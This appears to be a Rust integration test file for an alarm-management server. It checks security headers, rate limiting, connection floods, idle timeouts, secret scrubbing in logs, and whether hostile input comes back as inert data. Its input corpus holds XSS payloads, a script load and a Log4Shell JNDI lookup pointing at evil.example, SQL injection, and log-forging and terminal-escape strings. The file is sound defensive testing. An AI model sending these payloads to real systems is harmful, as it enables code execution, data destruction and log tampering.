//! What every response tells browsers, and what is refused before it costs anything.

use crate::support::access::ADMIN_TOKEN;
use crate::support::atalaya::ADMIN_PASSWORD;
use crate::support::client::{Response, finish};
use crate::support::hub::assert_refused;
use crate::support::{Atalaya, Client, WebSocket, eventually, raw};
use awc::http::Method;
use awc::http::header::HeaderValue;
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::io::Write;
use std::net::TcpStream;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

#[actix_web::test]
async fn every_response_protects_the_browser_that_reads_it() {
    let atalaya = Atalaya::without_mqtt().start().await;
    let client = atalaya.client();
    client.open("1").await;
    for (path, policy, kept) in [
        ("/", "script-src 'self'; style-src 'self';", true),
        ("/app/main.js", "default-src 'none'", true),
        (
            "/api/docs/",
            "script-src 'self'; style-src 'self' 'unsafe-inline'",
            true,
        ),
        (
            "/api/v1/cuentas/1",
            "default-src 'none'; frame-ancestors 'none'",
            false,
        ),
        ("/api/v1/cuentas/9", "default-src 'none'", false),
        ("/nowhere", "default-src 'none'", false),
        ("/health", "default-src 'none'", false),
    ] {
        let answer = client.get(path).await.unwrap();
        let header = |name| answer.header(name).unwrap_or_default().to_owned();
        let found = header("content-security-policy");
        assert!(
            found.contains(policy) && found.contains("frame-ancestors 'none'"),
            "{path}: {found}"
        );
        assert!(
            !found.contains("unsafe-eval") && !found.contains('*'),
            "{path}: {found}"
        );
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(
            header("cross-origin-resource-policy"),
            "same-origin",
            "{path}"
        );
        assert_eq!(
            header("cross-origin-opener-policy"),
            "same-origin",
            "{path}"
        );
        assert_eq!(header("cache-control") == "no-store", !kept, "{path}");
        assert_eq!(
            header("strict-transport-security"),
            "",
            "{path}: only over TLS"
        );
    }
    // What is turned away at the door too.
    let foreign = client
        .request(Method::GET, "/")
        .insert_header(("origin", "http://evil.example"));
    let answer = finish(foreign.send()).await.unwrap();
    assert_eq!(
        (answer.status, answer.header("x-content-type-options")),
        (403, Some("nosniff"))
    );
    let nobody = client.anonymous().get("/api/v1/cuentas/1").await.unwrap();
    assert_eq!(
        (nobody.status, nobody.header("cache-control")),
        (401, Some("no-store"))
    );
}

#[actix_web::test]
async fn one_principal_cannot_ask_without_end_and_others_can_go_on() {
    let atalaya = Atalaya::without_mqtt()
        .set("HTTP_RATE", 1)
        .set("HTTP_BURST", 50)
        .start()
        .await;
    let client = atalaya.client();
    let mut refused = None;
    for _ in 0..200 {
        let answer = client.get("/api/v1/estadisticas").await.unwrap();
        if answer.status == 429 {
            refused = Some(answer);
            break;
        }
    }
    let refused = refused.expect("it is held up");
    assert_refused(&refused, 429, "demasiadas_peticiones", "the rate");
    let seconds: u64 = refused.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=2).contains(&seconds), "{seconds}");
    let admin = client.with_token(ADMIN_TOKEN);
    assert_eq!(admin.get("/api/v1/estadisticas").await.unwrap().status, 200);
    assert_eq!(client.get("/livez").await.unwrap().status, 200);
}

#[actix_web::test]
async fn a_session_counts_against_whoever_it_is_of() {
    let atalaya = Atalaya::without_mqtt()
        .set("HTTP_RATE", 1)
        .set("HTTP_BURST", 40)
        .start()
        .await;
    let mut session = WebSocket::open(&atalaya).await;
    let mut answered = 0;
    let refused = loop {
        let answer = session.ask_raw(r#"{"id":7,"accion":"ping"}"#).await;
        if !answer.is_ok() {
            break answer;
        }
        answered += 1;
        assert!(answered < 200, "it is not held up");
    };
    assert!(answered <= 45, "{answered}");
    assert_eq!(refused.code(), "demasiadas_peticiones");
    assert_eq!(refused.json["id"], 7);
    // What is malformed is no way around it, and REST is the same account.
    let malformed = session.ask_raw("[").await;
    assert_eq!(malformed.code(), "demasiadas_peticiones");
    let rest = atalaya.client().get("/api/v1/estadisticas").await.unwrap();
    assert_refused(&rest, 429, "demasiadas_peticiones", "the rate");
    // The session lives, and is answered when it has waited.
    eventually("it may ask again", || async {
        let asked = atalaya.client().get("/api/v1/estadisticas").await.ok()?;
        (asked.status == 200).then_some(())
    })
    .await;
    let other = atalaya.client().with_token(ADMIN_TOKEN);
    assert_eq!(other.get("/api/v1/estadisticas").await.unwrap().status, 200);
}

/// Connections that a crowd tries to make.
const CROWD: usize = 10_000;

/// Room for the crowd's files in this process, as the server makes it in its own.
fn raise_file_limit() {
    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE).unwrap();
    setrlimit(Resource::RLIMIT_NOFILE, most, most).unwrap();
    let needed = u64::try_from(CROWD).unwrap() + 1_000;
    assert!(most >= needed, "{most} files are too few for this test");
}

/// Fault 34: ten thousand connections where there is room for two hundred, and those who watch
/// still get an answer at once, not when the crowd has run into its deadline.
#[actix_web::test]
async fn the_watch_gets_an_answer_in_a_crowd() {
    raise_file_limit();
    let atalaya = Atalaya::without_mqtt()
        .set("MAX_CONNECTIONS", 200)
        .start()
        .await;
    let port = atalaya.http_port;
    let is_over = Arc::new(AtomicBool::new(false));
    let watched = {
        let is_over = Arc::clone(&is_over);
        std::thread::spawn(move || watch(port, &is_over))
    };
    let crowd = actix_web::rt::task::spawn_blocking(move || {
        let address = ([127, 0, 0, 1], port).into();
        let come = |_| TcpStream::connect_timeout(&address, Duration::from_secs(2)).ok();
        (0..CROWD).filter_map(come).collect::<Vec<_>>()
    })
    .await
    .unwrap();
    assert_eq!(crowd.len(), CROWD, "all of them get through");
    // Others are told that there is no room, and may come again.
    let refused = raw::exchange(port, "GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n").await;
    assert_refused(&refused, 503, "sobrecarga", "no room");
    assert!(refused.header("retry-after").is_some());
    assert_eq!(refused.header("x-content-type-options"), Some("nosniff"));
    is_over.store(true, Ordering::Relaxed);
    let (answers, longest) = actix_web::rt::task::spawn_blocking(|| watched.join().unwrap())
        .await
        .unwrap();
    assert!(answers >= 10, "{answers} answers");
    assert!(longest < Duration::from_secs(3), "{longest:?}");

    // The limit holds: what has not said anything is gone, but for the few that have places.
    let still_open = crowd.iter().filter(|stream| is_open(stream)).count();
    assert!(still_open <= 200 + 2 * 64, "{still_open} are open");
    drop(crowd);
    eventually("there is room again", || async {
        let answer = atalaya.client().get("/health").await.ok()?;
        (answer.status == 200).then_some(())
    })
    .await;
}

/// Asks for `/livez` again and again, each time on a connection of its own, until it is over; how
/// many answers there were and how long the slowest took. Each must be there within the deadline.
fn watch(port: u16, is_over: &AtomicBool) -> (usize, Duration) {
    let (mut answers, mut longest) = (0, Duration::ZERO);
    while !is_over.load(Ordering::Relaxed) {
        let asked = Instant::now();
        // Where others have the processors, the next of the crowd may take the spare place before
        // the question in it is read. Who watches then asks again, and the time runs on.
        let text = loop {
            let mut stream = raw::connect(port);
            let _ = stream
                .write_all(b"GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            let answer = raw::read_all(&mut stream);
            if !answer.is_empty() || asked.elapsed() > Duration::from_secs(3) {
                break String::from_utf8_lossy(&answer).into_owned();
            }
        };
        assert!(
            text.starts_with("HTTP/1.1 200"),
            "{text:?} after {:?}",
            asked.elapsed()
        );
        longest = longest.max(asked.elapsed());
        answers += 1;
    }
    (answers, longest)
}

/// Whether the other side has not closed.
fn is_open(stream: &TcpStream) -> bool {
    stream.set_nonblocking(true).unwrap();
    let waits = |error: &std::io::Error| error.kind() == std::io::ErrorKind::WouldBlock;
    stream.peek(&mut [0]).is_err_and(|error| waits(&error))
}

/// Fault 33: who connects and says nothing, and who opens a session and vanishes from it.
#[actix_web::test]
async fn who_says_nothing_is_ended_at_a_deadline() {
    let atalaya = Atalaya::without_mqtt().start().await;
    let port = atalaya.http_port;
    let mut silent = raw::connect(port);
    let token = atalaya.token();
    let mut half_open = raw::connect(port);
    let request = format!(
        "GET /ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
         Authorization: Bearer {token}\r\n\r\n"
    );
    half_open.write_all(request.as_bytes()).unwrap();
    let started = Instant::now();
    let idle = actix_web::rt::task::spawn_blocking(move || {
        raw::read_all(&mut silent);
        started.elapsed()
    });
    // It reads and never answers a ping: 30 s of silence, noticed with the next heartbeat.
    half_open
        .set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    let session = actix_web::rt::task::spawn_blocking(move || {
        let said = raw::read_all(&mut half_open);
        (said, started.elapsed())
    });
    let idle = idle.await.unwrap();
    assert!((4..10).contains(&idle.as_secs()), "{idle:?}");
    let (said, took) = session.await.unwrap();
    assert!(said.starts_with(b"HTTP/1.1 101"), "{said:?}");
    assert!((29..50).contains(&took.as_secs()), "{took:?}");
    eventually("it is counted", || async {
        let ended = r#"atalaya_sessions_ended_total{reason="silent"}"#;
        (atalaya.metric(ended).await? == 1.0).then_some(())
    })
    .await;
}

/// What people and programs may write to hurt whoever reads it.
const CORPUS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script src=//evil.example></script>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE people; --",
    "x\",\"level\":\"ERROR\",\"message\":\"forged",
    "x\r\n2026-01-01T00:00:00.000Z ERROR forged",
    "x\n{\"level\":\"ERROR\"}",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "x\u{2028}2026-01-01T00:00:00.000Z ERROR forged",
    "\u{9b}31m \u{202e}gpj.exe",
];

/// A place for text: how it is written, and where it is read.
struct Field {
    name: &'static str,
    method: Method,
    path: String,
    body: Value,
    /// Where it is read, `{id}` being the id in the answer.
    read: String,
}

impl Field {
    fn new(name: &'static str, method: Method, path: &str, body: Value, read: &str) -> Self {
        Self {
            name,
            method,
            path: format!("/api/v1/{path}"),
            body,
            read: format!("/api/v1/{read}"),
        }
    }

    fn post(name: &'static str, path: &str, body: Value, read: &str) -> Self {
        Self::new(name, Method::POST, path, body, read)
    }
}

/// Every field that takes free text, with `text` in it.
fn fields(n: usize, text: &str) -> Vec<Field> {
    let mut all = places(n, text);
    all.extend(kinds(n, text));
    all.extend(alerts(text));
    all.extend(people(n, text));
    all
}

fn places(n: usize, text: &str) -> Vec<Field> {
    let company = json!({"empresa": format!("e{n}"), "nombre": text});
    let site = json!({"empresa": "banco", "sede": format!("s{n}"), "nombre": text});
    let device = json!({"nombre": text});
    let read = ["empresas/e", "sedes/banco/s"].map(|path| format!("{path}{n}"));
    let device = Field::new(
        "hardware",
        Method::PATCH,
        "hardware/boton",
        device,
        "hardware/boton",
    );
    vec![
        Field::post("empresa", "empresas", company, &read[0]),
        Field::post("sede", "sedes", site, &read[1]),
        device,
    ]
}

fn kinds(n: usize, text: &str) -> Vec<Field> {
    let put = |name, path: &str, body, read| Field::new(name, Method::PUT, path, body, read);
    let kind = |name, what: &str, value: Value| {
        let mut body = json!({"nombre": "n", "prioridad": "baja", "color": "rojo"});
        body[what] = value;
        let path = format!("tipos_alarma/banco/K{n}");
        put(name, &path, body, "tipos_alarma?empresa=banco&limite=200")
    };
    let device_type = json!({"descripcion": text});
    let path = format!("tipos_hardware/T{n}");
    let rule = json!({"empresa": "banco", "nombre": text, "condicion": "false",
        "acciones": [{"accion": "notificar", "grupo": "guardia"}]});
    vec![
        put(
            "tipo de hardware",
            &path,
            device_type,
            "tipos_hardware?limite=200",
        ),
        kind("tipo.nombre", "nombre", json!(text)),
        kind("tipo.descripcion", "descripcion", json!(text)),
        kind("tipo.instrucciones", "instrucciones", json!(text)),
        kind("tipo.elementos", "elementos", json!([text])),
        Field::post("regla", "reglas", rule, "reglas/{id}"),
    ]
}

fn alerts(text: &str) -> Vec<Field> {
    let alert = |name, what: &str, value: Value| {
        let mut body = json!({"hardware": "boton", "tipo_alarma": "ROJO"});
        body[what] = value;
        Field::post(name, "alertas", body, "alertas/{id}")
    };
    vec![
        alert("alerta.descripcion", "descripcion", json!(text)),
        alert("alerta.ubicacion", "ubicacion", json!({"x": text})),
        alert("alerta.datos", "datos", json!({"x": text})),
    ]
}

fn people(n: usize, text: &str) -> Vec<Field> {
    let account = |name, start: u8, names: [&str; 2]| {
        let id = format!("{start}{n}");
        let body = json!({"cedula": id, "nombres": names[0], "apellidos": names[1]});
        Field::post(name, "cuentas", body, &format!("cuentas/{id}"))
    };
    let person = json!({"usuario": format!("p{n}"), "nombre": text});
    vec![
        Field::post("usuario", "usuarios", person, &format!("usuarios/p{n}")),
        account("cuenta.nombres", 1, [text, "Vera"]),
        account("cuenta.apellidos", 2, ["Ana", text]),
    ]
}

/// Whether a text of `value` is `text`, whatever stands around it.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(found) => found.trim() == text.trim(),
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(fields) => fields.values().any(|field| holds(field, text)),
        _ => false,
    }
}

/// An answer that no browser runs.
#[track_caller]
fn assert_is_data(answer: &Response, what: &str) {
    let kind = answer.header("content-type").unwrap_or_default();
    assert!(
        ["application/json", "application/problem+json"].contains(&kind),
        "{what}: {kind}"
    );
    assert_eq!(
        answer.header("x-content-type-options"),
        Some("nosniff"),
        "{what}"
    );
    let policy = answer.header("content-security-policy").unwrap_or_default();
    assert!(policy.starts_with("default-src 'none'"), "{what}: {policy}");
    assert!(
        serde_json::from_slice::<Value>(&answer.body).is_ok(),
        "{what}"
    );
}

/// Every line of every log is one record, with nothing in it that commands a terminal.
#[track_caller]
fn assert_logs_are_lines(atalaya: &Atalaya, format: &str) {
    let logs = std::fs::read_dir(atalaya.folder().join("logs")).unwrap();
    let logs = logs.map(|file| std::fs::read_to_string(file.unwrap().path()).unwrap());
    let mut lines = 0;
    for log in logs.chain([atalaya.log()]) {
        for line in log.lines() {
            lines += 1;
            let misleads = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{202e}');
            assert!(!line.contains(misleads), "{line:?}");
            // People are no business of a log: a name may be a cédula.
            assert!(!line.contains("by pruebas"), "{line}");
            if format == "json" {
                let record: Value =
                    serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
                assert_eq!(record.as_object().unwrap().len(), 4, "{line}");
                assert_ne!(record["level"], "ERROR", "{line}");
            } else {
                let mut words = line.split_whitespace();
                let time = words.next().unwrap();
                assert!(time.len() == 24 && time.ends_with('Z'), "{line}");
                assert!(matches!(words.next(), Some("INFO" | "WARN")), "{line}");
            }
        }
    }
    assert!(lines > 20, "{lines} lines are too few to show anything");
}

/// Fault 43: whatever somebody writes is one line of a log, and comes back as data.
#[actix_web::test]
async fn what_people_write_is_neither_run_nor_a_line_of_its_own() {
    for format in ["text", "json"] {
        let atalaya = Atalaya::without_mqtt()
            .set("LOG_FORMAT", format)
            .set("RUST_LOG", "debug,actix_http=off,actix_server=warn")
            .set("ALERT_BOUNCE_MS", 0)
            .start()
            .await;
        let client = atalaya.client();
        let site = json!({"empresa": "banco", "sede": "sede"});
        client
            .changes(Method::POST, "/api/v1/sedes", &site, 201)
            .await;
        let device =
            json!({"hardware": "boton", "empresa": "banco", "sede": "sede", "tipo": "BOTONERA"});
        client
            .changes(Method::POST, "/api/v1/hardware", &device, 201)
            .await;
        let mut taken: BTreeMap<&str, usize> = BTreeMap::new();
        for (n, text) in CORPUS.iter().enumerate() {
            for field in fields(n, text) {
                let what = format!("{}: {text:?}", field.name);
                let answer = client.send(field.method, &field.path, &field.body).await;
                assert_is_data(&answer, &what);
                let count = taken.entry(field.name).or_default();
                if answer.status >= 400 {
                    assert!(
                        matches!(answer.status, 400 | 409 | 422),
                        "{what}: {}",
                        answer.text()
                    );
                    continue;
                }
                *count += 1;
                let made = answer.json();
                let id = [&made["id"], &made["alerta_id"], &made["regla_id"]];
                let id = id.into_iter().find(|id| !id.is_null());
                let id = id.map_or_else(String::new, |id| id.to_string().replace('"', ""));
                let shown = client.get(&field.read.replace("{id}", &id)).await.unwrap();
                assert_eq!(shown.status, 200, "{what}: {}", shown.text());
                assert_is_data(&shown, &what);
                assert!(holds(&shown.json(), text), "{what}: {}", shown.text());
                if field.name.starts_with("alerta") {
                    // So that the next is another.
                    let path = format!("/api/v1/alertas/{id}/descartar");
                    let step = client
                        .send(Method::POST, &path, &json!({"motivo": text}))
                        .await;
                    assert_is_data(&step, &format!("motivo: {text:?}"));
                    if step.status == 200 {
                        assert!(holds(&step.json(), text), "{}", step.text());
                    } else {
                        let plain = json!({"motivo": "Simulacro"});
                        client.changes(Method::POST, &path, &plain, 200).await;
                    }
                }
            }
            sign_in_as(&client, text).await;
        }
        // What is refused is refused for its characters; what is plain text is taken everywhere.
        for (field, count) in taken {
            assert!(count >= 8, "{field} took {count}");
        }
        let request = "GET /%0d%0aERROR%20forged HTTP/1.1\r\nHost: localhost\r\n\
                       User-Agent: x\x1b[2J\r\nConnection: close\r\n\r\n";
        let status = raw::exchange(atalaya.http_port, request).await.status;
        assert!(matches!(status, 400 | 404), "{status}");
        assert_logs_are_lines(&atalaya, format);
    }
}

/// Tries to sign in under a name that is `text`, with a client that calls itself so.
async fn sign_in_as(client: &Client, text: &str) {
    let body = json!({"usuario": text, "contrasena": text});
    let anonymous = client.anonymous();
    let mut request = anonymous
        .request(Method::POST, "/api/v1/sesiones")
        .insert_header(("content-type", "application/json"));
    if let Ok(name) = HeaderValue::from_bytes(text.as_bytes()) {
        request = request.insert_header(("user-agent", name));
    }
    let answer = finish(request.send_body(body.to_string())).await.unwrap();
    assert!(matches!(answer.status, 401 | 429), "{}", answer.text());
    assert_is_data(&answer, text);
}

/// Fault 45: every test looks through what its Atalaya has logged, and this is how that ends.
#[test]
fn a_secret_in_a_log_fails_the_test_whose_log_it_is() {
    let session = format!("ats_{}", "aB3-_".repeat(9));
    let program = format!("atp_{}", "x".repeat(43));
    for (file, line) in [
        ("logs/system.log", format!("INFO token {session} came")),
        (
            "logs/errors.log",
            format!("ERROR {{\"token\":\"{program}\"}}"),
        ),
        ("logs/system.log", format!("DEBUG {ADMIN_TOKEN}")),
        ("stderr.log", format!("WARN password {ADMIN_PASSWORD:?}")),
        (
            "logs/alerts.log",
            "WARN LOW_BALANCE account 1350509525 has 1.00".to_owned(),
        ),
        ("stderr.log", "INFO banco/saldo/0912345678".to_owned()),
    ] {
        assert!(!ends_well(file, &line), "{file}: {line}");
    }
    for (file, line) in [
        ("logs/alerts.log", "WARN LOW_BALANCE account 13…25 has 1.00"),
        (
            "logs/system.log",
            "INFO ats_short, 2026-11-27, 1764227161 bytes",
        ),
    ] {
        assert!(ends_well(file, line), "{file}: {line}");
    }
}

/// Whether an Atalaya that has logged `line` ends without an alarm.
fn ends_well(file: &str, line: &str) -> bool {
    let atalaya = Atalaya::without_mqtt().prepare();
    std::fs::create_dir(atalaya.folder().join("logs")).unwrap();
    std::fs::write(atalaya.folder().join(file), format!("INFO up\n{line}\n")).unwrap();
    catch_unwind(AssertUnwindSafe(|| drop(atalaya))).is_ok()
}
